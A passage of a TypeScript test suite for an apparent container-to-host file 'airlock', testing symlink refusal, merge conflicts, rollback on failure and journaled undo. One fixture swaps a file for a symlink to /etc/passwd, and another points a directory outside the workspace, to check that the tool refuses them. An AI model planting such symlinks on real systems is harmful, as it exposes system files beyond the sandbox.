    const chosen = s.apply({ allowRisky: ['docs/readme-link'] });
    assert.deepEqual(written(chosen), ['symlink docs/readme-link']);
    assert.equal(fs.lstatSync(path.join(s.root, 'docs/readme-link')).isSymbolicLink(), true);
    assert.equal(fs.readlinkSync(path.join(s.root, 'docs/readme-link')), '../README.md');
    assert.deepEqual(snapshotHost(s.root), expectedHost(now));
  });

  test('a file replaced by an outside symlink is refused and the host file is kept', () => {
    const s = scenario({ config: { content: 'keep me\n' } }, { config: { symlink: '/etc/passwd' } });
    const report = s.apply({ allowRisky: ['config'] });
    assert.match(reasonFor(report.refused, 'config'), /outside the workspace/);
    assert.deepEqual(report.written, []);
    assert.deepEqual(snapshotHost(s.root), expectedHost({ config: { content: 'keep me\n' } }));
  });

  test(
    'a refused new file under a host symlinked dir does not delete its rename source',

    () => {
      const outside = makeTempDir('airlock-outside-');
      const s = scenario({ 'a.txt': { content: 'moved\n' }, 'dst/keep.txt': { content: 'k\n' } }, { 'dst/a.txt': { content: 'moved\n' }, 'dst/keep.txt': { content: 'k\n' } }, {
        editHost: (root) => {
          fs.rmSync(path.join(root, 'dst'), { recursive: true });
          fs.symlinkSync(outside, path.join(root, 'dst'));
        },
      });
      assert.equal(change(s.changeSet, 'dst/a.txt').status, 'renamed');
      const report = s.apply();
      assert.match(reasonFor(report.refused, 'dst/a.txt'), /symlink/);
      assert.deepEqual(report.written, []);
      assert.equal(fs.readFileSync(path.join(s.root, 'a.txt'), 'utf8'), 'moved\n');
      assert.deepEqual(fs.readdirSync(outside), []);
    },
  );
});

describe('applyChanges: the host changed since the snapshot', () => {
  const base: Tree = { 'f.txt': { content: lines(20) } };

  test('a non-overlapping host edit is merged with the container edit', () => {
    const s = scenario(base, { 'f.txt': { content: lines(20, { 15: 'container 15' }) } }, { editHost: (root) => fs.writeFileSync(path.join(root, 'f.txt'), lines(20, { 2: 'host 2' })) });
    const report = s.apply();
    const merged = lines(20, { 2: 'host 2', 15: 'container 15' });
    assert.deepEqual(report.written, [{ path: 'f.txt', action: 'merge', sha256: sha256(merged), previousSha256: sha256(lines(20, { 2: 'host 2' })) }]);
    assert.equal(fs.readFileSync(path.join(s.root, 'f.txt'), 'utf8'), merged);
  });

  test('an overlapping host edit is a conflict and the host file keeps its bytes', () => {
    const hostText = lines(20, { 10: 'host 10' });
    const s = scenario(base, { 'f.txt': { content: lines(20, { 10: 'container 10' }) } }, { editHost: (root) => fs.writeFileSync(path.join(root, 'f.txt'), hostText) });
    const report = s.apply();
    assert.deepEqual(report.written, []);
    assert.match(reasonFor(report.refused, 'f.txt'), /conflict.*1 conflicting region/);
    assert.equal(fs.readFileSync(path.join(s.root, 'f.txt'), 'utf8'), hostText);
    assert.deepEqual(s.fixture.journal.all(), []);
  });

  test('the host already has the container content: unchanged', () => {
    const target = lines(20, { 4: 'same' });
    const s = scenario(base, { 'f.txt': { content: target } }, { editHost: (root) => fs.writeFileSync(path.join(root, 'f.txt'), target) });
    const report = s.apply();
    assert.deepEqual(report.unchanged, ['f.txt']);
    assert.deepEqual(report.written, []);
  });

  test('deleted on the host but modified in the container: conflict', () => {
    const s = scenario(base, { 'f.txt': { content: lines(20, { 1: 'x' }) } }, { editHost: (root) => fs.rmSync(path.join(root, 'f.txt')) });
    const report = s.apply();
    assert.equal(reasonFor(report.refused, 'f.txt'), 'conflict: deleted on the host since the task started');
    assert.deepEqual(snapshotHost(s.root), {});
  });

  test('modified on the host but deleted in the container: conflict, the host edit stays', () => {
    const s = scenario(base, {}, { editHost: (root) => fs.writeFileSync(path.join(root, 'f.txt'), 'host edit\n') });
    const report = s.apply();
    assert.match(reasonFor(report.refused, 'f.txt'), /^conflict: f\.txt changed on the host since the task started; not removing it/);
    assert.equal(fs.readFileSync(path.join(s.root, 'f.txt'), 'utf8'), 'host edit\n');
  });

  test('added on both sides with different content: conflict; with the same content: unchanged', () => {
    const s = scenario({}, { 'new.txt': { content: 'container\n' }, 'same.txt': { content: 'same\n' } }, {
      editHost: (root) => {
        fs.writeFileSync(path.join(root, 'new.txt'), 'host\n');
        fs.writeFileSync(path.join(root, 'same.txt'), 'same\n');
      },
    });
    const report = s.apply();
    assert.equal(reasonFor(report.refused, 'new.txt'), 'conflict: the host already has a different file here');
    assert.deepEqual(report.unchanged, ['same.txt']);
    assert.equal(fs.readFileSync(path.join(s.root, 'new.txt'), 'utf8'), 'host\n');
  });

  test(
    'a refused rename (the host has another file at the new name) leaves the old file in place',

    () => {
      const s = scenario({ 'a.txt': { content: 'moved\n' } }, { 'b.txt': { content: 'moved\n' } }, { editHost: (root) => fs.writeFileSync(path.join(root, 'b.txt'), 'host b\n') });
      assert.equal(change(s.changeSet, 'b.txt').status, 'renamed');
      const report = s.apply();
      assert.match(reasonFor(report.refused, 'b.txt'), /conflict/);
      assert.deepEqual(report.written, []);
      assert.deepEqual(snapshotHost(s.root), expectedHost({ 'a.txt': { content: 'moved\n' }, 'b.txt': { content: 'host b\n' } }));
    },
  );
});

describe('applyChanges: a failure half-way leaves the host exactly as it was', () => {
  const base: Tree = {
    'a.txt': { content: 'a\n' },
    'private.txt': { content: 'p\n', mode: 0o600 },
    'tool.sh': { content: '#!/bin/sh\n', mode: 0o755 },
    'del.txt': { content: 'delete me\n' },
    emptydir: { dir: true },
    'keep/k.txt': { content: 'k\n' },
  };
  const now: Tree = {
    'a.txt': { content: 'A\n' },
    'private.txt': { content: 'P\n', mode: 0o600 },
    'tool.sh': { content: '#!/bin/sh\necho\n', mode: 0o755 },
    'n/m/new.txt': { content: 'new\n' },
    'keep/k.txt': { content: 'k\n' },
  };

  test('the plan has at least 3 mutations', () => {
    const s = scenario(base, now);
    const report = s.apply();
    assert.deepEqual(report.refused, []);
    assert.deepEqual(written(report), [
      'delete del.txt',
      'mkdir n',
      'mkdir n/m',
      'rmdir emptydir',
      'write a.txt',
      'write n/m/new.txt',
      'write private.txt',
      'write tool.sh',
    ]);
    assert.deepEqual(snapshotHost(s.root), expectedHost(now));
  });

  // Mutations: unlink del.txt, rmdir emptydir, mkdir n, mkdir n/m, then 4 renames into place.
  for (let failAt = 0; failAt < 8; failAt++) {
    test(`a throw after mutation ${failAt} rolls everything back`, () => {
      const s = scenario(base, now);
      const before = snapshotHost(s.root);
      const rootBefore = fs.readdirSync(s.root).sort();
      const calls: number[] = [];
      s.context.afterMutation = (index) => {
        calls.push(index);
        if (index === failAt) throw new Error('boom');
      };
      const error = airlockErrorFrom(() => applyChanges(s.context));
      assert.equal(error.message, 'apply failed (boom); the host was left exactly as it was');
      assert.deepEqual(calls, Array.from({ length: failAt + 1 }, (_, index) => index));
      assert.deepEqual(snapshotHost(s.root), before);
      assert.deepEqual(fs.readdirSync(s.root).sort(), rootBefore);
      assert.deepEqual(airlockTemps(s.root), []);
      assert.equal(fs.existsSync(path.join(s.root, 'n')), false);
    });
  }

  test('the failure at mutation 1 (the brief case) with exact file bytes and modes', () => {
    const s = scenario(base, now);
    s.context.afterMutation = (index) => {
      if (index === 1) throw new Error('boom');
    };
    assert.throws(() => applyChanges(s.context), (error: unknown) => error instanceof AirlockError && /the host was left exactly as it was/.test(error.message));
    assert.deepEqual(snapshotHost(s.root), expectedHost(base));
    assert.equal(fs.lstatSync(path.join(s.root, 'private.txt')).mode & 0o7777, 0o600);
    assert.equal(fs.lstatSync(path.join(s.root, 'tool.sh')).mode & 0o7777, 0o755);
    assert.deepEqual(airlockTemps(s.root), []);
  });

  test(
    'a rolled-back apply is recorded as rolled-back, so undo reverts the apply before it',

    () => {
      const s = scenario({ 'a.txt': { content: 'a\n' }, 'b.txt': { content: 'b\n' } }, { 'a.txt': { content: 'A\n' }, 'b.txt': { content: 'B\n' } });
      const first = s.apply({ paths: ['a.txt'] });
      assert.ok(first.id);
      s.context.afterMutation = () => {
        throw new Error('boom');
      };
      airlockErrorFrom(() => applyChanges(s.context, { paths: ['b.txt'] }));
      s.context.afterMutation = undefined;
      assert.deepEqual(
        s.fixture.journal.all().map((j) => [j.id === first.id ? 'first' : 'second', j.status]).sort(),
        [
          ['first', 'applied'],
          ['second', 'rolled-back'],
        ],
      );
      const undo = undoLastApply(s.context);
      assert.equal(undo.id, first.id);
      assert.deepEqual(undo.restored, ['a.txt']);
      assert.deepEqual(snapshotHost(s.root), expectedHost({ 'a.txt': { content: 'a\n' }, 'b.txt': { content: 'b\n' } }));
    },
  );
});

describe('undoLastApply', () => {
  const base: Tree = {
    'edit.txt': { content: 'original\n' },
    'private.txt': { content: 'secret\n', mode: 0o600 },
    'gone.txt': { content: 'will be deleted\n', mode: 0o640 },
    'run.sh': { content: '#!/bin/sh\n' },
    'docs/a.md': { content: 'a\n' },
  };
  const now: Tree = {
    'edit.txt': { content: 'changed\n' },
    'private.txt': { content: 'still secret\n', mode: 0o600 },
    'run.sh': { content: '#!/bin/sh\n', mode: 0o755 },
    'docs/a.md': { content: 'a\n' },
    'docs/b.md': { content: 'moved? no, new\n' },
    'x/y/z.txt': { content: 'deep\n' },
  };

  test('restores exact bytes, modes and deletions, and removes new dirs; the journal goes applied → undone', () => {
    const s = scenario(base, now);
    const before = snapshotHost(s.root);
    const report = s.apply({ allowRisky: ['run.sh'] });
    assert.deepEqual(written(report), ['delete gone.txt', 'mkdir x', 'mkdir x/y', 'write docs/b.md', 'write edit.txt', 'write private.txt', 'write run.sh', 'write x/y/z.txt']);
    assert.deepEqual(snapshotHost(s.root), expectedHost(now));

    const journalFile = path.join(s.fixture.journal.dir, `${report.id}.json`);
    assert.ok(fs.existsSync(journalFile));
    assert.equal(fs.lstatSync(journalFile).mode & 0o777, 0o600);
    const applied = JSON.parse(fs.readFileSync(journalFile, 'utf8'));
    assert.equal(applied.status, 'applied');
    assert.equal(applied.task, 't1');
    assert.equal(applied.root, s.root);
    assert.deepEqual(applied.steps.map((step: { path: string }) => step.path).sort(), ['docs/b.md', 'edit.txt', 'gone.txt', 'private.txt', 'run.sh', 'x', 'x/y', 'x/y/z.txt']);
    assert.deepEqual(
      applied.steps.find((step: { path: string }) => step.path === 'gone.txt'),
      { path: 'gone.txt', before: { kind: 'file', sha256: sha256('will be deleted\n'), mode: 0o640, size: 16 }, after: { kind: 'absent' } },
    );
    assert.equal(fs.existsSync(`${journalFile}.tmp`), false);

    const undo = undoLastApply(s.context);
    assert.equal(undo.id, report.id);
    assert.deepEqual([...undo.restored].sort(), ['docs/b.md', 'edit.txt', 'gone.txt', 'private.txt', 'run.sh', 'x', 'x/y', 'x/y/z.txt']);
    assert.deepEqual(snapshotHost(s.root), before);
    assert.deepEqual(snapshotHost(s.root), expectedHost(base));
    assert.deepEqual(airlockTemps(s.root), []);
    assert.equal(JSON.parse(fs.readFileSync(journalFile, 'utf8')).status, 'undone');
    assert.deepEqual(
      s.fixture.journal.all().map((j) => j.status),
      ['undone'],
    );

    const again = airlockErrorFrom(() => undoLastApply(s.context));
    assert.equal(again.message, 'there is no apply to undo for this task');
    assert.deepEqual(snapshotHost(s.root), before);
  });

  test('undo restores a typechange (file → dir with a child)', () => {
    const s = scenario({ thing: { content: 'file\n', mode: 0o640 } }, { 'thing/child.txt': { content: 'c\n' } });
    const before = snapshotHost(s.root);
    s.apply();
    assert.equal(fs.lstatSync(path.join(s.root, 'thing')).isDirectory(), true);
    undoLastApply(s.context);
    assert.deepEqual(snapshotHost(s.root), before);
  });

  test(
    'undo recreates a removed directory with its original mode',

    () => {
      const s = scenario({ priv: { dir: true, mode: 0o700 }, 'a.txt': { content: 'a\n' } }, { 'a.txt': { content: 'a\n' } });
      const before = snapshotHost(s.root);
      assert.deepEqual(before.priv, { kind: 'dir', mode: 0o700 });
      assert.deepEqual(written(s.apply()), ['rmdir priv']);
      assert.equal(fs.existsSync(path.join(s.root, 'priv')), false);
      undoLastApply(s.context);
      assert.deepEqual(snapshotHost(s.root), before);
    },
  );

  test('refuses when the host edited an applied file since, changing nothing; force restores anyway', () => {
    const s = scenario(base, now);
    s.apply({ allowRisky: ['run.sh'] });
    fs.writeFileSync(path.join(s.root, 'edit.txt'), 'edited after apply\n');
    const afterEdit = snapshotHost(s.root);
    const error = airlockErrorFrom(() => undoLastApply(s.context));
    assert.equal(error.message, 'undo would lose host edits made after the apply: edit.txt');
    assert.match(error.hint ?? '', /Nothing was changed/);
    assert.deepEqual(snapshotHost(s.root), afterEdit);
    assert.equal(s.fixture.journal.all()[0].status, 'applied');

    const forced = undoLastApply(s.context, { force: true });
    assert.ok(forced.restored.includes('edit.txt'));
    assert.deepEqual(snapshotHost(s.root), expectedHost(base));
    assert.equal(s.fixture.journal.all()[0].status, 'undone');
  });

  test('refuses when an applied file was deleted on the host since; force brings back the original', () => {
    const s = scenario(base, now);
    s.apply({ allowRisky: ['run.sh'] });
    fs.rmSync(path.join(s.root, 'x/y/z.txt'));
    const error = airlockErrorFrom(() => undoLastApply(s.context));
    assert.match(error.message, /x\/y\/z\.txt/);
    assert.equal(fs.existsSync(path.join(s.root, 'x/y')), true);
    undoLastApply(s.context, { force: true });
    assert.deepEqual(snapshotHost(s.root), expectedHost(base));
  });

  test('undo against another workspace is refused', () => {
    const s = scenario(base, now);
    s.apply({ allowRisky: ['run.sh'] });
    const other = hostWorkspace(s.fixture);
    const error = airlockErrorFrom(() => undoLastApply({ ...s.context, root: other }));
    assert.match(error.message, /^the last apply went to /);
    assert.deepEqual(snapshotHost(other), expectedHost(base));
    assert.deepEqual(snapshotHost(s.root), expectedHost(now));
  });

  test('three quick applies: undo reverts the newest first, then the older ones', () => {
    const s = scenario({ 'a.txt': { content: 'a\n' }, 'b.txt': { content: 'b\n' }, 'c.txt': { content: 'c\n' } }, { 'a.txt': { content: 'A\n' }, 'b.txt': { content: 'B\n' }, 'c.txt': { content: 'C\n' } });
    const ids = ['a.txt', 'b.txt', 'c.txt'].map((rel) => s.apply({ paths: [rel] }).id);
    assert.equal(new Set(ids).size, 3);
    const host = (a: string, b: string, c: string) => expectedHost({ 'a.txt': { content: a }, 'b.txt': { content: b }, 'c.txt': { content: c } });
    assert.deepEqual(undoLastApply(s.context), { id: ids[2], restored: ['c.txt'] });
    assert.deepEqual(snapshotHost(s.root), host('A\n', 'B\n', 'c\n'));
    assert.deepEqual(undoLastApply(s.context), { id: ids[1], restored: ['b.txt'] });
    assert.deepEqual(snapshotHost(s.root), host('A\n', 'b\n', 'c\n'));
    assert.deepEqual(undoLastApply(s.context), { id: ids[0], restored: ['a.txt'] });
    assert.deepEqual(snapshotHost(s.root), host('a\n', 'b\n', 'c\n'));
    assert.deepEqual(
      s.fixture.journal.all().map((j) => j.status),
      ['undone', 'undone', 'undone'],
    );
  });
});
